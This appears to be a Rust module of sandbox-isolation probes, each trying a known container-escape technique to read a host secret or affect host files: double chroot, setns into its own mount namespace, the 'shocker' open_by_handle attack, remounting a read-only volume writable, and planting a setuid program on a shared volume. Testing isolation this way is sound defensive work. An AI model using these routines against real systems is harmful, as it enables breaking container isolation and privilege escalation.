//! Ways to files of the host's.

use std::fs::{self, File, Permissions};
use std::os::unix::fs::{OpenOptionsExt as _, PermissionsExt as _};
use std::path::Path;

use common::process::probe::open_by_handle;
use nix::errno::Errno;
use nix::fcntl::{OFlag, open};
use nix::mount::{MsFlags, mount};
use nix::sched::{CloneFlags, setns};
use nix::sys::stat::Mode;
use nix::unistd::{chdir, chroot, fchdir};

use super::host::{PLACE, SECRET};

pub(super) fn errno(error: std::io::Error) -> Errno {
    Errno::from_raw(error.raw_os_error().unwrap_or_default())
}

pub(super) fn read_secret() -> nix::Result<()> {
    File::open(SECRET).map(drop).map_err(errno)
}

/// Where a directory of the host's is for this process: with a root of its own, or without.
fn shared(name: &str) -> String {
    let inside = format!("/{name}");
    if Path::new(&inside).exists() {
        inside
    } else {
        format!("{PLACE}/{name}")
    }
}

/// A mount on a volume, which the host is to see.
pub(super) fn travel() -> nix::Result<()> {
    let (tmpfs, none) = (Some("tmpfs"), None::<&str>);
    mount(
        tmpfs,
        shared("volume").as_str(),
        tmpfs,
        MsFlags::empty(),
        none,
    )
}

/// chroot() leaves the working directory outside of the new root, and nothing stops it there.
pub(super) fn double_chroot() -> nix::Result<()> {
    let outside = open("/", OFlag::O_PATH, Mode::empty())?;
    chroot("/tmp")?;
    fchdir(outside)?;
    for _ in 0..16 {
        chdir("..")?;
    }
    chroot(".")?;
    read_secret()
}

/// setns() to one's own mount namespace leads to its root, not to the process's.
pub(super) fn root_of_namespace() -> nix::Result<()> {
    let own = File::open("/proc/self/ns/mnt").map_err(errno)?;
    setns(own, CloneFlags::CLONE_NEWNS)?;
    read_secret()
}

/// A file by its handle, whatever part of its file system is mounted here ("shocker").
pub(super) fn handle() -> nix::Result<()> {
    let volume = shared("volume");
    let handle = fs::read(format!("{volume}/handle")).map_err(errno)?;
    let volume = File::open(volume).map_err(errno)?;
    open_by_handle(volume, &handle).map(drop)
}

/// A read-only volume made writable.
pub(super) fn remount() -> nix::Result<()> {
    let (readonly, none) = (shared("readonly"), None::<&str>);
    let flags = MsFlags::MS_REMOUNT | MsFlags::MS_BIND;
    let changed = mount(none, readonly.as_str(), none, flags, none);
    let written = fs::write(format!("{readonly}/new"), "").map_err(errno);
    written.map_err(|errno| changed.err().unwrap_or(errno))
}

/// A program for whoever starts it on the host.
pub(super) fn set_user_id_on_volume() -> nix::Result<()> {
    let program = format!("{}/program", shared("volume"));
    fs::write(&program, "#!/bin/sh\n").map_err(errno)?;
    fs::set_permissions(&program, Permissions::from_mode(0o4755)).map_err(errno)
}

/// To write, as a probe: it is closed at once.
pub(super) fn open_to_write(path: impl AsRef<Path>) -> nix::Result<()> {
    let flags = OFlag::O_NONBLOCK.bits();
    File::options()
        .write(true)
        .custom_flags(flags)
        .open(path)
        .map(drop)
        .map_err(errno)
}
